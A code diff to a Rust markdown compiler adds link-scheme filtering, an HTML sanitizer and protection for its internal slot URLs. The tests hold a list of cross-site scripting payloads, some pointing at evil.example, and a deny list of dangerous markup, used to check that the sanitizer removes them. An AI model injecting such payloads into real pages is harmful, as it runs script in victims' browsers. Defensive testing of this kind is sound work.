@@ -14,6 +14,103 @@ const TEXT_OPEN: char = '\u{FDD2}';
 /// of our own; links that users write with this scheme are neutralised when compiling.
 const HREF_SLOT: &str = "aimsbook:slot/";
 
+/// Whether a link or image target that is not a repository path may stay as written: a
+/// fragment, or an http, https or mailto URL. Everything else (`javascript:`, `vbscript:`,
+/// `data:`, `file:`, unknown schemes, in any spelling) is dropped. Browsers ignore tabs and
+/// newlines inside a URL and spaces before it, so they are ignored here too.
+pub fn safe_external(dest: &str) -> bool {
+    let cleaned: String = dest
+        .trim_start_matches(|c: char| c <= ' ')
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .collect();
+    if cleaned.starts_with('#') {
+        return true;
+    }
+    if let Some(rest) = cleaned.strip_prefix("//") {
+        // Protocol-relative: the page's own scheme (http, https or file).
+        return !rest.is_empty();
+    }
+    match cleaned.split_once(':') {
+        Some((scheme, _)) if !scheme.contains(['/', '?', '#']) => {
+            matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "mailto")
+        }
+        _ => true,
+    }
+}
+
+/// What a body may keep of the HTML its authors write: the elements a handbook uses, no script,
+/// no event handlers, no `base`, `iframe`, `object`, `form` or `style`, and only http, https,
+/// mailto and relative URLs. Our own href slots (`aimsbook:slot/N/`) pass; authors cannot write
+/// them (`neutralise_raw` rewrites the scheme in raw HTML before it gets here).
+fn sanitizer() -> &'static ammonia::Builder<'static> {
+    static CELL: std::sync::OnceLock<ammonia::Builder<'static>> = std::sync::OnceLock::new();
+    CELL.get_or_init(|| {
+        let mut b = ammonia::Builder::default();
+        b.add_tags([
+            "details",
+            "summary",
+            "kbd",
+            "sup",
+            "sub",
+            "br",
+            "abbr",
+            "input",
+            "section",
+            "figure",
+            "figcaption",
+            "mark",
+            "dl",
+            "dt",
+            "dd",
+        ])
+        .add_tag_attributes("abbr", ["title"])
+        .add_tag_attributes("input", ["type", "checked", "disabled"])
+        .add_tag_attributes("details", ["open"])
+        .add_tag_attributes("th", ["style"])
+        .add_tag_attributes("td", ["style"])
+        .add_tag_attributes("ol", ["start"])
+        .add_tag_attributes("code", ["class"])
+        .add_tag_attributes("div", ["class"])
+        .add_tag_attributes("sup", ["class"])
+        .add_tag_attributes("span", ["class", "data-withheld", "title"])
+        .add_generic_attributes(["id"])
+        .url_schemes(["http", "https", "mailto", "aimsbook"].into_iter().collect())
+        .url_relative(ammonia::UrlRelative::PassThrough)
+        .link_rel(None)
+        .attribute_filter(|element, attribute, value| match (element, attribute) {
+            // Table alignment is the only style a body keeps: it cannot load anything.
+            ("th" | "td", "style") => {
+                let v = value.trim().trim_end_matches(';').replace(' ', "");
+                matches!(v.as_str(), "text-align:left" | "text-align:center" | "text-align:right").then(|| value.into())
+            }
+            ("input", "type") => (value == "checkbox").then(|| value.into()),
+            ("img", "src") if value.trim_start().to_ascii_lowercase().starts_with("http:") => None,
+            _ => Some(value.into()),
+        });
+        b
+    })
+}
+
+/// Raw HTML as an author wrote it, with our slot scheme made unusable: only the compiler writes
+/// `aimsbook:` URLs.
+fn neutralise_raw(html: &str) -> CowStr<'_> {
+    if html.to_ascii_lowercase().contains("aimsbook:") {
+        let mut out = String::with_capacity(html.len());
+        let lower = html.to_ascii_lowercase();
+        let mut last = 0;
+        for (i, _) in lower.match_indices("aimsbook:") {
+            out.push_str(&html[last..i]);
+            out.push_str("blocked-aimsbook-");
+            last = i + "aimsbook:".len();
+        }
+        out.push_str(&html[last..]);
+        out.into()
+    } else {
+        CowStr::Borrowed(html)
+    }
+}
+
 #[derive(Debug, Default, Clone)]
 pub struct CompiledBody {
     /// HTML with slots for resolved hrefs and titles.
@@ -133,6 +230,8 @@ pub fn compile(body: &str, body_line: usize, title: Option<&str>, with_html: boo
     let mut heading: Option<PendingHeading> = None;
     // Inside a wikilink without custom text: drop its inner text, the title slot replaces it.
     let mut skip_link_text = false;
+    // Whether the author wrote raw HTML: then the page goes through the sanitizer.
+    let mut raw_html = false;
 
     let mut push_ref = |kind: RefKind, offset: usize, len: usize, refs: &mut Vec<BodyRef>| -> usize {
         let (l, c) = lines.position(offset);
@@ -209,17 +308,45 @@ pub fn compile(body: &str, body_line: usize, title: Option<&str>, with_html: boo
                     id,
                 })
             }
+            // Targets outside the repository: only fragments and http, https, mailto URLs stay.
             Event::Start(Tag::Link {
                 link_type,
                 dest_url,
                 title,
                 id,
-            }) if dest_url.starts_with("aimsbook:") => Event::Start(Tag::Link {
+            }) if !safe_external(&dest_url) => Event::Start(Tag::Link {
                 link_type,
-                dest_url: "about:blank".into(),
+                dest_url: "#".into(),
                 title,
                 id,
             }),
+            Event::Start(Tag::Image {
+                link_type,
+                dest_url,
+                title,
+                id,
+            }) if !safe_external(&dest_url) || dest_url.trim_start().to_ascii_lowercase().starts_with("http:") => {
+                Event::Start(Tag::Image {
+                    link_type,
+                    dest_url: "#".into(),
+                    title,
+                    id,
+                })
+            }
+            Event::Html(raw) => {
+                raw_html = true;
+                Event::Html(match neutralise_raw(&raw) {
+                    CowStr::Borrowed(_) => raw,
+                    owned => owned.into_string().into(),
+                })
+            }
+            Event::InlineHtml(raw) => {
+                raw_html = true;
+                Event::InlineHtml(match neutralise_raw(&raw) {
+                    CowStr::Borrowed(_) => raw,
+                    owned => owned.into_string().into(),
+                })
+            }
             Event::End(TagEnd::Link) if skip_link_text => {
                 skip_link_text = false;
                 Event::End(TagEnd::Link)
@@ -305,6 +432,11 @@ pub fn compile(body: &str, body_line: usize, title: Option<&str>, with_html: boo
     if with_html {
         html.reserve(body.len() * 3 / 2);
         pulldown_cmark::html::push_html(&mut html, events);
+        // Without raw HTML, what pulldown-cmark writes is escaped text and tags of its own, with
+        // link targets filtered above; with it, the whole body is sanitized.
+        if raw_html {
+            html = sanitizer().clean(&html).to_string();
+        }
         // Kept until every page is written: give back the reserve (a quarter of all bodies).
         html.shrink_to_fit();
     } else {
@@ -402,6 +534,14 @@ pub fn fill_slots(html: &str, value: impl Fn(usize) -> SlotValue) -> String {
             (_, Some(t)) => (t, false),
             (None, None) => break,
         };
+        // An href slot is ours only as the value of an `href` or `src` attribute; the same
+        // letters in text are the author's and stay as written.
+        if is_href && !(rest[..pos].ends_with("href=\"") || rest[..pos].ends_with("src=\"")) {
+            let end = pos + HREF_SLOT.len();
+            copy(&mut out, &rest[..end], &mut close_span);
+            rest = &rest[end..];
+            continue;
+        }
         copy(&mut out, &rest[..pos], &mut close_span);
         let (after, close) = if is_href {
             (&rest[pos + HREF_SLOT.len()..], '/')
@@ -559,9 +699,129 @@ mod tests {
 
     #[test]
     fn our_slot_scheme_cannot_be_forged() {
-        let c = compile("[x](aimsbook:slot/0/)\n", 1, None, true);
-        assert!(c.refs.is_empty());
-        assert!(c.html.contains("about:blank"), "{}", c.html);
+        let fill = |c: &CompiledBody| {
+            fill_slots(&c.html, |_| SlotValue {
+                href: "SECRET.html".into(),
+                title: "Secret".into(),
+                withheld: false,
+            })
+        };
+        for body in [
+            "[x](aimsbook:slot/0/)\n",
+            "[x](AIMSBOOK:slot/0/)\n",
+            "<a href=\"aimsbook:slot/0/\">x</a>\n",
+            "Text that says aimsbook:slot/0/ in words.\n",
+            "`aimsbook:slot/0/`\n",
+        ] {
+            let c = compile(body, 1, None, true);
+            assert!(c.refs.is_empty(), "{body}");
+            assert!(!fill(&c).contains("SECRET"), "{body} → {}", fill(&c));
+        }
+        // Ours still work beside forged ones.
+        let c = compile("[[POL-1]] and aimsbook:slot/0/\n", 1, None, true);
+        let html = fill(&c);
+        assert!(
+            html.contains(r#"href="SECRET.html""#) && html.contains("and aimsbook:slot/0/"),
+            "{html}"
+        );
+    }
+
+    /// Every payload of the hostile review, written the ways authors could write it.
+    const PAYLOADS: &[&str] = &[
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<iframe src=\"javascript:alert(1)\"></iframe>",
+        "[[POL-1|<script>alert(1)</script>]]",
+        "[a](javascript:alert(1))",
+        "[a](JaVaScRiPt:alert(1))",
+        "[a](&#106;avascript:alert(1))",
+        "[a][r]\n\n[r]: javascript:alert(1)",
+        "<javascript:alert(1)>",
+        "[a](vbscript:msgbox(1))",
+        "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+        "<base href=\"https://evil.example/\">",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\" javascript:alert(1)\">x</a>",
+        "<svg><script>alert(1)</script></svg>",
+        "<object data=\"x.swf\"></object>",
+        "<form action=\"https://evil.example\"><input name=x></form>",
+        "<div style=\"background:url(https://evil.example/x)\">x</div>",
+        "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
+        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+        "<style>body{background:url(https://evil.example/x)}</style>",
+    ];
+
+    #[test]
+    fn hostile_bodies_lose_everything_that_runs_or_loads() {
+        for p in PAYLOADS {
+            let c = compile(&format!("Intro\n\n{p}\n"), 1, None, true);
+            // Markup only: what shows as text (escaped) cannot run.
+            let mut html = String::new();
+            let mut in_tag = false;
+            for ch in c.html.to_ascii_lowercase().chars() {
+                match ch {
+                    '<' => in_tag = true,
+                    '>' => in_tag = false,
+                    _ => {}
+                }
+                if in_tag || ch == '>' {
+                    html.push(ch);
+                }
+            }
+            for bad in [
+                "<script",
+                "onerror",
+                "onload",
+                "ontoggle",
+                "javascript:",
+                "vbscript:",
+                "data:",
+                "<iframe",
+                "<base",
+                "<object",
+                "<form",
+                "<meta",
+                "<link",
+                "<style",
+                "style=",
+                "evil.example/x",
+            ] {
+                assert!(!html.contains(bad), "{p:?} left {bad:?} in {html}");
+            }
+        }
+    }
+
+    #[test]
+    fn a_handbooks_own_html_survives_the_sanitizer() {
+        let body = "<details><summary>More</summary>\n\nHidden *text*.\n\n</details>\n\nPress <kbd>Ctrl</kbd>, x<sup>2</sup>, H<sub>2</sub>O, <abbr title=\"AI management system\">AIMS</abbr>.<br>\n\n| a | b |\n|:-:|--|\n| 1 | 2 |\n\n<img src=\"https://example.org/x.png\" alt=\"x\"> [[POL-1]] [site](https://example.org) [mail](mailto:a@b.c) [top](#top)\n\n## Heading {#mine}\n";
+        let c = compile(body, 1, None, true);
+        for kept in [
+            "<details>",
+            "<summary>More</summary>",
+            "<em>text</em>",
+            "<kbd>Ctrl</kbd>",
+            "<sup>2</sup>",
+            "<sub>2</sub>",
+            r#"<abbr title="AI management system">"#,
+            "<br>",
+            r#"style="text-align: center""#,
+            r#"src="https://example.org/x.png""#,
+            r#"href="https://example.org""#,
+            r#"href="mailto:a@b.c""#,
+            r##"href="#top""##,
+            r#"id="mine""#,
+            "aimsbook:slot/0/",
+        ] {
+            assert!(c.html.contains(kept), "{kept} kept in {}", c.html);
+        }
+        assert!(
+            c.html.contains(TEXT_OPEN) && c.html.contains(CLOSE),
+            "text slots survive: {}",
+            c.html
+        );
     }
 
     #[test]
